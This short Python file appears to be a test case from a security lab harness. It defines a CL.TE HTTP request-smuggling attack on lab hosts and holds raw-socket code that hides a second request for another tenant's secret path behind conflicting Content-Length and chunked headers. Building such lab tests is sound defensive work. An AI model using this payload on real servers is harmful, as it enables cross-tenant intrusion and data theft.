"""hides a second request in what looks like the body of the first"""

from evidence import other_tenant_asked as succeeded

SHAPE = "request smuggling, CL.TE"
PROMISE = "P27"
LAB = True
OPTIONS = {"hosts": ["tenant-a.rwlab.net:80"]}
PYTHON = """
import socket
with socket.create_connection(("tenant-a.rwlab.net", 80), 30) as line:
    hidden = b"GET /@SECRET@ HTTP/1.1\\r\\nHost: tenant-b.rwlab.net\\r\\n\\r\\n"
    line.sendall(b"POST /a HTTP/1.1\\r\\nHost: tenant-a.rwlab.net\\r\\nContent-Length: %d\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n" % (5 + len(hidden)) + hidden)
    line.recv(9999)
"""
